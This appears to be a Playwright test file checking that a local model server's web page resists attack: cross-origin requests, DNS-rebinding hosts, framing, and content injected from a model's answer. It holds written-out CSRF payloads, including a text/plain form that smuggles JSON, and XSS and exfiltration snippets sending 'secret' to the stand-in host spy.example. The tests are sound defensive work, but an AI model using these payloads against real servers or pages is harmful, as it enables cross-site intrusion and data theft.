"""Pages of others, and anything that a model's answer could smuggle into ours, have no effect in a real browser."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from browsing import FOREIGN, IS_FIREFOX, Visit
from page_server import PageServer, wait_until
from playwright.sync_api import BrowserContext, Page

from conftest import MakePageServer, OpenTab

# Each of these is a request that a page may send to another origin without being asked.
ATTACKS = """async (url) => {
  const send = (path, options) => fetch(url + path, options).then((reply) => reply.status, () => "unreadable");
  const json = (value) => ({ body: JSON.stringify(value) });
  const plain = { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" } };
  const embed = (tag, path) => new Promise((done) => {
    const element = Object.assign(document.createElement(tag), { src: url + path });
    element.onload = () => done(`${tag} loaded`);
    element.onerror = () => done(`${tag} failed`);
    document.body.append(element);
    setTimeout(() => done(`${tag} silent`), 3000);
  });
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: url + "/api/copy", target: "f", enctype: "text/plain" });
  const field = document.createElement("input");
  field.name = '{"source": "demo", "destination": "by-form", "x": "';
  field.value = '"}';
  form.append(field);
  const frame = Object.assign(document.createElement("iframe"), { name: "f" });
  document.body.append(frame, form);
  form.submit();
  return await Promise.all([
    send("/api/copy", { ...plain, ...json({ source: "demo", destination: "by-plain" }) }),
    send("/api/copy", { method: "POST", ...json({ source: "demo", destination: "by-fetch" }) }),
    send("/api/generate", { ...plain, ...json({ model: "demo-draft", prompt: "x" }) }),
    send("/api/tags", {}),
    send("/props?model=demo-draft", { mode: "no-cors" }),
    embed("img", "/props?model=demo-draft"),
    embed("script", "/tokenizer_info?model=demo-draft"),
    embed("iframe", "/slots?model=demo-draft"),
  ]);
}"""


# The browser tells of a frame that it refuses as of one that is loaded, or not at all.
FRAME = """(url) => new Promise((done) => {
  const frame = Object.assign(document.createElement("iframe"), { src: url, onload: done });
  document.body.append(frame);
  setTimeout(done, 3000);
}).then(() => undefined)"""
NOTE_REFUSALS = """() => {
  window.refused = [];
  const note = (event) => window.refused.push(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
}"""


@pytest.fixture
def foreign_page(context: BrowserContext, tmp_path: Path) -> Iterator[Page]:
    """A page of another site on this machine."""
    folder = tmp_path / "foreign"
    folder.mkdir()
    (folder / "index.html").write_text("<!doctype html><title>foreign</title><p>Hello")
    handler = partial(SimpleHTTPRequestHandler, directory=str(folder))
    handler.func.log_message = lambda *_: None  # type: ignore[method-assign]
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        page = context.new_page()
        page.goto(f"http://{FOREIGN}:{site.server_port}/")
        yield page
        site.shutdown()


def list_models(server: PageServer, path: str) -> list[str]:
    with server.client() as client:
        return [model["name"] for model in client.get(path).json()["models"]]


def test_a_page_of_another_site_changes_nothing(server: PageServer, foreign_page: Page) -> None:
    before = list_models(server, "/api/tags")
    results = foreign_page.evaluate(ATTACKS, server.url)
    assert not [result for result in results[:4] if result == 200], results
    assert list_models(server, "/api/tags") == before
    assert list_models(server, "/api/ps") == ["demo:latest"], "nothing was loaded"

    def was_refused(path: str) -> bool:
        return any("status=403" in line and f"path={path} " in line for line in server.log.splitlines())

    for path in ("/api/copy", "/api/generate", "/api/tags", "/props", "/tokenizer_info", "/slots"):
        wait_until(partial(was_refused, path), 20)  # if it was not asked for, nothing is shown


def test_a_name_that_was_pointed_here_gets_no_page(server: PageServer, context: BrowserContext) -> None:
    reply = context.new_page().goto(f"http://{FOREIGN}:{server.port}/")
    assert reply is not None
    assert reply.status == 403
    assert "allowed_hosts" in reply.text()


def test_our_page_cannot_be_framed(server: PageServer, foreign_page: Page) -> None:
    foreign_page.evaluate(FRAME, server.url)
    assert all("mlxr" not in (frame.title() or "") for frame in foreign_page.frames[1:])


@pytest.mark.smoke
@pytest.mark.parametrize(
    "code",
    [
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"window.ran = 1\">')",
        "const a = document.createElement('a'); a.href = 'javascript:window.ran = 1'; a.click()",
        "const s = document.createElement('script'); s.src = 'https://spy.example/x.js'; document.body.append(s)",
        "document.body.append(Object.assign(new Image(), { src: 'https://spy.example/pixel.png?secret' }))",
        "fetch('https://spy.example/?secret').catch(() => 0)",
        "navigator.sendBeacon('https://spy.example/', 'secret')",
        "new WebSocket('wss://spy.example/')",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://spy.example/' }))",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"background: url(https://spy.example/)\">x</p>')",
        "document.body.insertAdjacentHTML('beforeend', '<style>p { background: url(https://spy.example/) }</style>')",
        "const f = document.body.appendChild(document.createElement('form')); f.action = '//spy.example'; f.submit()",
    ],
)
def test_what_is_smuggled_into_the_page_neither_runs_nor_asks_anybody(code: str, visit: Visit) -> None:
    """The test puts a model's words into the page's document, which the page never does."""
    page, stopped = visit.page, set[str]()
    why = ("NS_ERROR_CONTENT_BLOCKED",) if IS_FIREFOX else ("csp",)
    page.on("requestfailed", lambda request: stopped.add(request.url) if request.failure in why else None)
    page.evaluate(NOTE_REFUSALS)
    page.evaluate(f"() => {{ try {{ {code} }} catch {{}} }}")  # Firefox throws what Chromium says later
    page.wait_for_function("() => window.refused.length > 0")
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.ran") is None
    assert page.url.startswith(visit.origin)
    # What was asked for was stopped by the policy, which the browser tells a moment later.
    wait_until(lambda: page.evaluate("true") is True and set(visit.foreign_requests) <= stopped, 20)
    visit.faults.clear()  # the browser's words about what it refused
    visit.requests.clear()


@pytest.fixture
def tool() -> Iterator[str]:
    """Another server, which answers tools."""

    class Tool(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"42")

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Tool) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{site.server_port}"
        site.shutdown()


def test_a_tool_is_called_only_where_the_owner_allowed_it(
    tool: str, server: PageServer, make_server: MakePageServer, tab: OpenTab
) -> None:
    ask = "(url) => fetch(url).then((reply) => reply.text(), (error) => error.name)"
    allowed = tab(make_server(page_tool_origins=tool))
    assert allowed.page.evaluate(ask, tool) == "42"
    assert allowed.foreign_requests == [f"{tool}/"]
    allowed.requests.clear()
    strict = tab(server)
    assert strict.page.evaluate(ask, tool) == "TypeError"
    strict.faults.clear()
